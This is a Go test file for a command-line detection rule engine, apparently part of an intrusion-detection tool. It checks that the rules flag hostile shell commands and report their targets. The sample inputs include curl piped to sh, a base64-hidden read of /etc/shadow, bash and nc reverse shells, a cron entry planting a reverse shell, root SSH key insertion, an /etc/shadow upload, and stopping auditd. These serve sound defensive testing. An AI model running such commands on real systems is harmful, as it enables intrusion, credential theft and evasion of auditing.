package cmdline_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/cmdline"
)

// TestRulesExamples walks every rule: each example that must hit does, each
// look-alike stays quiet.
func TestRulesExamples(t *testing.T) {
	rules := cmdline.DefaultRules()
	for r := range rules.All() {
		t.Run(r.ID, func(t *testing.T) {
			assert.NotEmpty(t, r.Hits)
			assert.NotEmpty(t, r.Quiet)
			assert.NotEmpty(t, r.Techniques)
			assert.NotEmpty(t, r.Tactic)
			assert.NotEmpty(t, r.Why)
			for _, s := range r.Hits {
				assert.Contains(t, ids(rules.Match(cmdline.Parse(s))), r.ID, "must hit: %s", s)
			}
			for _, s := range r.Quiet {
				assert.NotContains(t, ids(rules.Match(cmdline.Parse(s))), r.ID, "must stay quiet: %s", s)
			}
		})
	}
}

// TestRuleFilesLoad reads each file by itself, so that a broken one is not
// passed over.
func TestRuleFilesLoad(t *testing.T) {
	names, err := filepath.Glob("rules/*.yaml")
	require.NoError(t, err)
	total := 0
	for _, n := range names {
		if filepath.Base(n) == "lists.yaml" {
			continue
		}
		f, err := os.Open(n)
		require.NoError(t, err)
		r, err := cmdline.LoadRules(n, f)
		f.Close()
		if assert.NoError(t, err) {
			total += r.Len()
		}
	}
	assert.Equal(t, total, cmdline.DefaultRules().Len(), "an id is in two files")
	assert.GreaterOrEqual(t, total, 120)
}

func ids(hits []cmdline.Hit) []string {
	var out []string
	for _, h := range hits {
		out = append(out, h.Rule)
	}
	return out
}

// TestHit looks at what a hit tells.
func TestHit(t *testing.T) {
	match := func(s string) cmdline.Hit {
		t.Helper()
		hits := cmdline.DefaultRules().Match(cmdline.Parse(s))
		require.NotEmpty(t, hits)
		return hits[0]
	}
	h := match("cd /opt; curl -s http://192.0.2.7/x.sh | sudo sh")
	assert.Equal(t, "pipe-to-shell", h.Rule)
	assert.Equal(t, "curl -s http://192.0.2.7/x.sh | sh", h.Evidence)
	assert.Equal(t, "http://192.0.2.7/x.sh", h.Target)
	assert.Equal(t, cmdline.FactFetch, h.TargetKind)
	assert.Equal(t, []string{"T1105", "T1059.004"}, h.Techniques)
	assert.Equal(t, "execution", h.Tactic)
	assert.Equal(t, cmdline.High, h.Severity)
	assert.Equal(t, 1, h.Call)
	assert.Contains(t, h.Facts, cmdline.Fact{Kind: cmdline.FactFetch, Value: "http://192.0.2.7/x.sh", Call: 1})
	assert.Empty(t, h.Decoded)

	h = match("echo Y2F0IC9ldGMvc2hhZG93Cg== | base64 -d | sh")
	assert.Equal(t, "/etc/shadow", h.Target)
	require.Len(t, h.Decoded, 1)
	assert.Equal(t, cmdline.Step{How: "base64 -d", In: "Y2F0IC9ldGMvc2hhZG93Cg==\n", Out: "cat /etc/shadow\n"}, h.Decoded[0])

	h = match("printf '* * * * * root /tmp/.x\\n' > /etc/cron.d/z")
	assert.Equal(t, "/etc/cron.d/z", h.Target)
	hits := cmdline.DefaultRules().Match(cmdline.Parse("printf '* * * * * root bash -i >& /dev/tcp/192.0.2.7/1 0>&1\\n' > /etc/cron.d/z"))
	require.Equal(t, []string{"cron-write", "cron-runs-risk"}, ids(hits))
	assert.Equal(t, cmdline.Critical, hits[1].Severity, "as bad as what it would run")
	assert.Equal(t, "/etc/cron.d/z", hits[1].Target)

	targets := map[string]string{
		"echo k >> /root/.ssh/authorized_keys":  "/root/.ssh/authorized_keys",
		"useradd -m bob":                        "bob",
		"usermod -aG sudo bob":                  "bob",
		"echo bob:x | chpasswd":                 "bob",
		"bash -i >& /dev/tcp/192.0.2.7/4 0>&1":  "192.0.2.7:4",
		"nc -e /bin/sh 192.0.2.7 4":             "192.0.2.7:4",
		"rm -f /root/.bash_history":             "/root/.bash_history",
		"systemctl stop auditd":                 "auditd",
		"insmod /tmp/x.ko":                      "/tmp/x.ko",
		"curl -T /etc/shadow http://192.0.2.7/": "/etc/shadow",
		"/tmp/.x/y":                             "/tmp/.x/y",
	}
	for s, want := range targets {
		assert.Equal(t, want, match(s).Target, s)
	}
}
